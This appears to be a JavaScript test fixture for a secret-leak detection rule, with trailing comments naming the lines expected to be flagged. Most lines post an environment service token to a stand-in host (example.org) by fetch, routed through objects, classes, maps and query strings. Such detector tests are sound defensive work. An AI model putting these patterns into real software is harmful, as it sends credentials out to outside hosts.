const fs = require('fs');
const base = 'https://example.org/';
const token = process.env.SERVICE_TOKEN;

const a = {};
Reflect.set(a, 'k', token);
fetch(base, { method: 'POST', body: JSON.stringify(a) });
fetch(base, { method: 'POST', body: a.k });
const b = {};
Object.defineProperties(b, { url: { value: base }, secret: { value: token, enumerable: true } });
fetch(base, { method: 'POST', body: JSON.stringify(b) });
fetch(base, { method: 'POST', body: b.secret });
fetch(base, { method: 'POST', body: b.url });
const c = { name: 'x' };
Object.defineProperty(c, 'own', { value: token, enumerable: true });
fetch(base, { method: 'POST', body: JSON.stringify(structuredClone(c)) });
fetch(base, { method: 'POST', body: c.own });
fetch(base, { method: 'POST', body: c.name });

// properties of classes
class Field { kept = process.env.SERVICE_TOKEN; }
fetch(base, { method: 'POST', body: JSON.stringify(new Field()) });
class Account {
    constructor(user, secret) {
        this.user = user;
        this.held = secret;
        this.sent = [];
    }
    all() {
        return fetch(base, { method: 'POST', body: JSON.stringify({ ...this }) });
    }
    get again() {
        return process.env.SERVICE_TOKEN;
    }
}
const account = new Account('me', token);
fetch(base, { method: 'POST', body: JSON.stringify(account) });
fetch(base, { method: 'POST', body: account.again });
fetch(base, { method: 'POST', body: account.user });
fetch(base, { method: 'POST', body: JSON.stringify(account.sent) });
class Special extends Account {}
fetch(base, { method: 'POST', body: JSON.stringify(new Special('me', token)) });

// collections
const map = new Map();
map.set('url', base);
map.set('token', token);
fetch(base, { method: 'POST', body: map.get('token') });
fetch(base, { method: 'POST', body: map.get('url') });
const query = new URLSearchParams();
query.set('k', token);
fetch(base + '?' + query.toString());

// settings
const settings = {};
Object.assign(settings, { url: base, token });
fetch(settings.url, { headers: { Authorization: settings.token } });
const more = { ...settings, page: 1 };
fetch(more.url, { headers: { Authorization: more.token } });
const joined = Object.assign({}, { url: base }, { token });
fetch(joined.url, { headers: { Authorization: joined.token } });
// expect 7 any.secret-sent
// expect 8 any.secret-sent
// expect 11 any.secret-sent
// expect 12 any.secret-sent
// expect 16 any.secret-sent
// expect 17 any.secret-sent
// expect 22 any.secret-sent
// expect 30 any.secret-sent
// expect 37 any.secret-sent
// expect 38 any.secret-sent
// expect 42 any.secret-sent
// expect 48 any.secret-sent
// expect 52 any.secret-sent
